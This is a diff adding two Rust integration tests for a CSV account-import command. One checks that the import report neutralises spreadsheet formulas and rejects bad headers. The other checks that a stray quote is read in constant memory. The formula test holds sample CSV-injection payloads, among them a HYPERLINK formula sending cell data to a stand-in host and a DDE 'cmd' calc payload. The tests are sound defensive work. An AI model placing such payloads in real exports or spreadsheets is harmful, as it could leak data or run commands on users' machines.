@@ -13,6 +13,8 @@ crate::on_both_databases!(
     a_dry_run_writes_nothing,
     imported_hashes_of_other_systems_consolidate,
     the_command_reports_and_an_import_killed_midway_finishes,
+    the_commands_report_runs_no_formula_and_a_bad_header_changes_nothing,
+    a_stray_quote_is_read_in_constant_memory,
 );
 
 /// The bcrypt (cost 4, Python's bcrypt) and SHA-512-crypt (OpenSSL) hashes
@@ -466,6 +468,172 @@ async fn the_command_reports_and_an_import_killed_midway_finishes(app: &TestApp)
         .unwrap();
     assert_eq!(out.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&out.stderr).contains("usage: provider-portal import FILE"));
+    let _ = std::fs::remove_file(&file);
+    let _ = std::fs::remove_file(&report);
+}
+
+/// Operators open the report in a spreadsheet: a refused row's legacy_id
+/// that reads as a formula is written as text. A header with an unknown
+/// or a repeated column: exit 2, the column named, nothing written, and
+/// no "run the same command again".
+async fn the_commands_report_runs_no_formula_and_a_bad_header_changes_nothing(app: &TestApp) {
+    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-imports");
+    std::fs::create_dir_all(&dir).unwrap();
+    let name = unique("formulas");
+    let file = dir.join(format!("{name}.csv"));
+    let report = dir.join(format!("{name}-report.csv"));
+    let ids = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+    ];
+    let mut text = HEADER.to_string();
+    for (i, id) in ids.iter().enumerate() {
+        let quoted = id.replace('"', "\"\"");
+        text.push_str(&format!(
+            "formula-test,\"{quoted}\",f{i},{},P,R,,Q?,,{BCRYPT},,{BCRYPT},,{BCRYPT}\n",
+            720_000_000 + i
+        ));
+    }
+    std::fs::write(&file, &text).unwrap();
+    let out = command(app)
+        .args([
+            "import",
+            file.to_str().unwrap(),
+            "--report",
+            report.to_str().unwrap(),
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let report_text = std::fs::read_to_string(&report).unwrap();
+    let mut cells = 0;
+    for record in csv::Reader::from_reader(report_text.as_bytes()).records() {
+        for cell in record.unwrap().iter() {
+            cells += 1;
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula in the report: {cell:?}\n{report_text}"
+            );
+        }
+    }
+    assert_eq!(cells, ids.len() * 5, "{report_text}");
+    for id in ids {
+        assert!(
+            report_text.contains(&format!("'{}", id.replace('"', "\"\""))),
+            "{id}: {report_text}"
+        );
+    }
+    // A bad header, before any row: exit 2, nothing written.
+    let events = "SELECT COUNT(*) FROM audit_events WHERE action = 'import'";
+    for (header, says) in [
+        (
+            "source,legacy_id,username,colour\n",
+            "column 4 of the header, \"colour\"",
+        ),
+        (
+            "source,legacy_id,username,Source\n",
+            "column 4 of the header, \"source\", is named twice",
+        ),
+    ] {
+        std::fs::write(&file, format!("{header}a,1,b,c\n")).unwrap();
+        let before = app.count("SELECT COUNT(*) FROM legacy_accounts").await;
+        let out = command(app)
+            .args(["import", file.to_str().unwrap()])
+            .output()
+            .unwrap();
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{header}: {stderr}");
+        assert!(stderr.contains(says), "{header}: {stderr}");
+        assert!(stderr.contains("Nothing was imported"), "{stderr}");
+        assert!(!stderr.contains("run the same command again"), "{stderr}");
+        assert_eq!(
+            app.count("SELECT COUNT(*) FROM legacy_accounts").await,
+            before
+        );
+    }
+    assert!(
+        app.count(events).await >= 3,
+        "each run is in the audit trail"
+    );
+    let _ = std::fs::remove_file(&file);
+    let _ = std::fs::remove_file(&report);
+}
+
+/// An export with one stray quote: the rest of the file is one record,
+/// refused with its line (field-too-long) while the command's memory
+/// stays flat. Measured: its peak resident memory (VmHWM) against a file
+/// of 150 MB stays within 100 MiB of what the command holds at rest.
+async fn a_stray_quote_is_read_in_constant_memory(app: &TestApp) {
+    use std::io::Write;
+    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-imports");
+    std::fs::create_dir_all(&dir).unwrap();
+    let name = unique("quote");
+    let file = dir.join(format!("{name}.csv"));
+    let report = dir.join(format!("{name}-report.csv"));
+    {
+        let mut f = std::io::BufWriter::new(std::fs::File::create(&file).unwrap());
+        f.write_all(HEADER.as_bytes()).unwrap();
+        f.write_all(hashed_row(900_001, "Before the quote").as_bytes())
+            .unwrap();
+        f.write_all(b"old-portal,\"L-stray,").unwrap();
+        let block = hashed_row(900_002, "Inside the quote").repeat(1000);
+        let mut written = 0;
+        while written < 150 << 20 {
+            f.write_all(block.as_bytes()).unwrap();
+            written += block.len();
+        }
+    }
+    let mut child = command(app)
+        .args([
+            "import",
+            file.to_str().unwrap(),
+            "--report",
+            report.to_str().unwrap(),
+        ])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let status_file = format!("/proc/{}/status", child.id());
+    let kib = |field: &str| -> Option<u64> {
+        let status = std::fs::read_to_string(&status_file).ok()?;
+        let line = status.lines().find(|l| l.starts_with(field))?;
+        line.split_whitespace().nth(1)?.parse().ok()
+    };
+    let (mut peak, mut first) = (0, None);
+    let status = loop {
+        if let Some(now) = kib("VmHWM:") {
+            peak = peak.max(now);
+            first.get_or_insert(now);
+        }
+        if let Some(status) = child.try_wait().unwrap() {
+            break status;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(5));
+    };
+    assert_eq!(status.code(), Some(1), "one row refused");
+    let report_text = std::fs::read_to_string(&report).unwrap();
+    assert!(
+        report_text.contains("\n3,,field-too-long,rejected,"),
+        "{report_text}"
+    );
+    assert_eq!(
+        app.count("SELECT COUNT(*) FROM legacy_accounts WHERE practice = 'Before the quote'")
+            .await,
+        1
+    );
+    let grown = peak.saturating_sub(first.unwrap_or(peak));
+    assert!(
+        peak > 0 && peak < 100 * 1024 + first.unwrap_or(0).max(64 * 1024),
+        "peak {peak} KiB (first seen {first:?} KiB, grown {grown} KiB) for a 150 MB record"
+    );
     let _ = std::fs::remove_file(&file);
     let _ = std::fs::remove_file(&report);
 }
